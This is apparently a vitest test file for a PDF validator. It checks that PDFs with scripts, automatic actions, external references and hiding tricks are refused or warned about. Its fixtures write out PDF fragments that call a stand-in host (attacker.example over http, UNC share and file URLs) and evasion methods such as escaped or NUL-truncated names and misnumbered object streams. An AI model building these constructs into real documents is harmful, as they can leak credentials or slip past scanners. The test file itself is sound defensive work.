import { describe, expect, it } from 'vitest';
import { decodeName } from '../../../../shared/validation/pdf/syntax.ts';
import {
  buildClassicPdf,
  buildPdf,
  directRootPdf,
  escapeNames,
  linkAnnotations,
  pageObjects,
  packedUnderAnotherNumberPdf,
  type PdfObj,
  predictorByReferencePdf,
  rebuiltFromStreamDataPdf,
} from '../../../fixtures/active-pdf.ts';
import { codes, inspect } from '../helpers.ts';

/**
 * Each class of PDF content a reader acts on by itself, or on a click, and what the validator
 * says of it (shared/validation/pdf/active.ts, links.ts): refused when it acts with no click or
 * carries what cannot be checked; a warning when the reviewer clicks it to leave the file.
 */

const UNC = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)';
const URL_SPEC = '<< /FS /URL /F (http://attacker.example/x.pdf) >>';

/** The page objects with a form XObject (6) drawn on the page, `extra` in its dictionary. */
const pageWithForm = (extra: string, more: PdfObj[] = []): Buffer =>
  buildClassicPdf([
    ...pageObjects('', '/Resources << /XObject << /X1 6 0 R >> >>'),
    { num: 6, body: `/Type /XObject /Subtype /Form /BBox [0 0 100 100] ${extra}`, stream: Buffer.from('0 0 m') },
    ...more,
  ]);

const findings = async (pdf: Buffer) => {
  const result = await inspect(pdf, 'pdf');
  return {
    codes: codes(result),
    features: result.findings.map((f) => (f.detail as { feature?: string } | undefined)?.feature),
    warnings: result.warnings.map((w) => (w.detail as { target?: string } | undefined)?.target),
  };
};

describe('a form that shows a page of another file (a reference XObject)', () => {
  it.each([
    ['a relative file', '/Ref << /F (annex.pdf) /Page 0 >>'],
    ['a share', `/Ref << /F ${UNC} /Page 0 >>`],
    ['a URL file specification', `/Ref << /F ${URL_SPEC} /Page 0 >>`],
    ['an escaped key', '/R#65f << /F (annex.pdf) /Page 0 >>'],
  ])('is refused, the reader fetching it to draw the page: %s', async (_, ref) => {
    expect(await findings(pageWithForm(ref))).toMatchObject({
      codes: ['PDF_ACTION'],
      features: ['/Ref (a page of another file)'],
    });
  });

  it('is refused with its /Ref given by reference, in an object stream too', async () => {
    const target = { num: 7, body: '<< /F (annex.pdf) /Page 0 >>' };
    expect(codes(await inspect(pageWithForm('/Ref 7 0 R', [target]), 'pdf'))).toEqual(['PDF_ACTION']);
    const packed = buildPdf(
      [
        ...pageObjects('', '/Resources << /XObject << /X1 6 0 R >> >>'),
        { num: 6, body: '[<< /Ref << /F (a.pdf) >> >>]' },
      ],
      { packed: [6] },
    );
    expect(codes(await inspect(packed, 'pdf'))).toEqual(['PDF_ACTION']);
  });

  it('is not taken from a structure element’s /Ref, a list of references', async () => {
    const tagged = buildClassicPdf([
      ...pageObjects('/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>'),
      { num: 6, body: '<< /Type /StructTreeRoot /K [7 0 R] >>' },
      { num: 7, body: '<< /Type /StructElem /S /P /P 6 0 R /Ref [8 0 R] /Pg 3 0 R /K 0 >>' },
      { num: 8, body: '<< /Type /StructElem /S /Note /P 6 0 R /Ref 7 0 R /K 1 >>' },
    ]);
    expect(codes(await inspect(tagged, 'pdf'))).toEqual([]);
  });
});

describe('names as a reader reads them', () => {
  it('ends a name at #00, as a reader keeping names as C strings ends it', () => {
    expect(decodeName('JavaScript#00')).toBe('JavaScript');
    expect(decodeName('J#53#00tail')).toBe('JS');
    expect(decodeName('Java#53cript')).toBe('JavaScript');
  });

  it('refuses a script whose names end in #00', async () => {
    const pdf = buildClassicPdf([
      ...pageObjects('/OpenAction 6 0 R'),
      { num: 6, body: '<< /S /JavaScript#00 /JS#00 (app.alert(1)) >>' },
    ]);
    expect(await findings(pdf)).toMatchObject({ codes: ['PDF_SCRIPT', 'PDF_ACTION'] });
  });

  it.each([
    ['a key', '/Names << /JavaScript 6 0 R >>'],
    ['a value', '/PageMode /UseNone /X /JavaScript'],
    ['an array item', '/X [/JavaScript]'],
    ['a dictionary in an array', '/X [<< /JS (x) >>]'],
  ])('finds an escaped active name as %s, plain and in an object stream', async (_, catalog) => {
    const objects = [...pageObjects(escapeNames(catalog)), { num: 6, body: '<< /Kids [] >>' }];
    expect(codes(await inspect(buildClassicPdf(objects), 'pdf'))).toContain('PDF_SCRIPT');
    expect(codes(await inspect(buildPdf(objects, { packed: [1, 6] }), 'pdf'))).toContain('PDF_SCRIPT');
  });

  it('finds /JavaScript and /EmbeddedFiles name trees reached only through /Kids', async () => {
    const tree = (key: string) =>
      buildPdf(
        [
          ...pageObjects(`/Names << /${key} 6 0 R >>`),
          { num: 6, body: '<< /Kids [7 0 R] >>' },
          { num: 7, body: '<< /Kids [8 0 R] /Limits [(a) (z)] >>' },
          { num: 8, body: '<< /Names [(a) 9 0 R] /Limits [(a) (a)] >>' },
          { num: 9, body: '<< /S /GoTo /D [3 0 R /Fit] >>' },
        ],
        { packed: [1, 6, 7, 8, 9] },
      );
    expect(codes(await inspect(tree('Java#53cript'), 'pdf'))).toEqual(['PDF_SCRIPT']);
    expect(codes(await inspect(tree('Embedded#46iles'), 'pdf'))).toEqual(['PDF_ATTACHMENT']);
  });

  it('refuses an object stream whose predictor is given by reference (a NUL in each row would split its names)', async () => {
    expect(await findings(predictorByReferencePdf())).toMatchObject({ codes: ['PDF_UNREADABLE'] });
  });
});

describe('actions on events: /AA with every trigger', () => {
  const TRIGGERS = ['O', 'C', 'K', 'F', 'V', 'E', 'X', 'D', 'U', 'Fo', 'Bl', 'PO', 'PC', 'PV', 'PI'];
  const DOCUMENT = ['WC', 'WS', 'DS', 'WP', 'DP'];
  const goTo = '<< /S /GoTo /D [3 0 R /Fit] >>';

  it.each(TRIGGERS)('refuses /%s on a page, a field and an annotation', async (key) => {
    const onPage = buildClassicPdf(pageObjects('', `/AA << /${key} ${goTo} >>`));
    const onField = buildClassicPdf([
      ...pageObjects('/AcroForm << /Fields [6 0 R] >>', '/Annots [6 0 R]'),
      { num: 6, body: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /${key} ${goTo} >> >>` },
    ]);
    const onLink = buildClassicPdf(linkAnnotations(`${goTo} /A#41 << /${key} ${goTo} >>`));
    for (const pdf of [onPage, onField, onLink]) expect(codes(await inspect(pdf, 'pdf'))).toEqual(['PDF_ACTION']);
  });

  it.each(DOCUMENT)('refuses /%s on the document', async (key) => {
    expect(codes(await inspect(buildPdf(pageObjects(`/AA << /${key} ${goTo} >>`)), 'pdf'))).toEqual(['PDF_ACTION']);
  });
});

describe('actions that fetch, import, play or open what is outside the page', () => {
  it.each([
    ['/GoToE into an embedded file', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>', 'PDF_ACTION'],
    ['/ImportData from a file', '<< /S /ImportData /F (data.fdf) >>', 'PDF_ACTION'],
    ['/ImportData from a URL', `<< /S /ImportData /F ${URL_SPEC} >>`, 'PDF_ACTION'],
    ['/Sound with an external file', `<< /S /Sound /Sound << /R 8000 /F ${UNC} >> >>`, 'PDF_ACTION'],
    ['/Movie with an external file', '<< /S /Movie /T (clip) >>', 'PDF_ACTION'],
    ['/Rendition of a URL', `<< /S /Rendition /R << /S /MR /C << /S /MCD /D ${URL_SPEC} >> >> >>`, 'PDF_ACTION'],
    ['/RichMediaExecute', '<< /S /RichMediaExecute /TA 7 0 R /TI 8 0 R >>', 'PDF_SCRIPT'],
  ])('refuses %s on a click', async (_, action, code) => {
    expect(codes(await inspect(buildClassicPdf(linkAnnotations(action)), 'pdf'))).toEqual([code]);
  });

  it.each([
    ['an external', `/RichMediaContent << /Assets << /Names [(v.swf) ${URL_SPEC}] >> >>`],
    ['an embedded', '/RichMediaContent << /Assets << /Names [(v.swf) << /EF << /F 7 0 R >> >>] >> >>'],
  ])('refuses a /RichMedia annotation with %s asset', async (_, content) => {
    const pdf = buildClassicPdf([
      ...pageObjects('', '/Annots [6 0 R]'),
      { num: 6, body: `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] ${content} >>` },
    ]);
    expect(codes(await inspect(pdf, 'pdf'))).toContain('PDF_SCRIPT');
  });

  it('refuses /Sound and /Movie annotations whose media is an external file', async () => {
    for (const annot of [
      `/Subtype /Sound /Sound << /R 8000 /F ${UNC} >>`,
      `/Subtype /Movie /Movie << /F ${URL_SPEC} >>`,
    ]) {
      const pdf = buildClassicPdf([
        ...pageObjects('', '/Annots [6 0 R]'),
        { num: 6, body: `<< /Type /Annot ${annot} /Rect [0 0 9 9] >>` },
      ]);
      expect(codes(await inspect(pdf, 'pdf'))).toEqual(['PDF_ACTION']);
    }
  });

  it('warns of a /Thread or /GoToR into another file on a click, a URL file specification included', async () => {
    const pdf = buildClassicPdf(
      linkAnnotations(
        '<< /S /Thread /F (annex.pdf) /D 0 >>',
        `<< /S /Thread /F ${URL_SPEC} /D 0 >>`,
        `<< /S /GoToR /F ${URL_SPEC} /D [0 /Fit] >>`,
      ),
    );
    expect(await findings(pdf)).toEqual({
      codes: [],
      features: [],
      warnings: ['annex.pdf', 'http://attacker.example/x.pdf'],
    });
  });

  it('refuses a /Thread or a URL file specification that leads into a share or a local file', async () => {
    expect(codes(await inspect(buildClassicPdf(linkAnnotations(`<< /S /Thread /F ${UNC} /D 0 >>`)), 'pdf'))).toEqual([
      'PDF_ACTION',
    ]);
    const fileUrl = '<< /S /GoToR /F << /FS /URL /F (file://attacker.example/s/x.pdf) >> /D [0 /Fit] >>';
    expect(codes(await inspect(buildClassicPdf(linkAnnotations(fileUrl)), 'pdf'))).toEqual(['PDF_ACTION']);
  });
});

describe('an object in an object stream, as the cross-reference stream numbers it', () => {
  it('refuses a file whose object stream numbers an object otherwise than the cross-reference stream', async () => {
    // pdf.js takes object 6 at its index (an opening /URI); the pairs call that object 7.
    expect(await findings(packedUnderAnotherNumberPdf())).toMatchObject({
      codes: ['PDF_UNREADABLE'],
      features: [undefined],
    });
  });

  it('accepts object streams whose pairs agree with the cross-reference stream, updated or not', async () => {
    const objects = [...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] >>' }];
    expect(codes(await inspect(buildPdf(objects, { packed: [1, 2, 3, 5, 6] }), 'pdf'))).toEqual([]);
    expect(codes(await inspect(buildPdf(objects, { packed: [6, 2] }), 'pdf'))).toEqual([]);
  });
});

describe('a catalog written in place in the trailer', () => {
  it('judges its opening action and its links as any catalog’s', async () => {
    expect(await findings(directRootPdf('/OpenAction << /S /URI /URI (http://attacker.example/t) >>'))).toMatchObject({
      codes: ['PDF_ACTION'],
      features: ['/OpenAction /URI'],
    });
    expect(codes(await inspect(directRootPdf(`/URI << /Base ${UNC} >>`), 'pdf'))).toEqual(['PDF_ACTION']);
    expect(codes(await inspect(directRootPdf('/OpenAction [3 0 R /Fit]'), 'pdf'))).toEqual([]);
  });
});

describe('objects a reader finds only when it rebuilds the file', () => {
  it('refuses a file whose /Root a reader cannot fetch as its table says, objects hidden in an image', async () => {
    for (const root of ['/Root 1 1 R', '/Root 7 0 R', ' '.repeat(11)])
      expect(await findings(rebuiltFromStreamDataPdf(root))).toMatchObject({ codes: ['PDF_UNREADABLE'] });
    // The same file with its /Root as the table says: the image's data is no object to any reader.
    expect(codes(await inspect(rebuiltFromStreamDataPdf('/Root 1 0 R'), 'pdf'))).toEqual([]);
  });
});
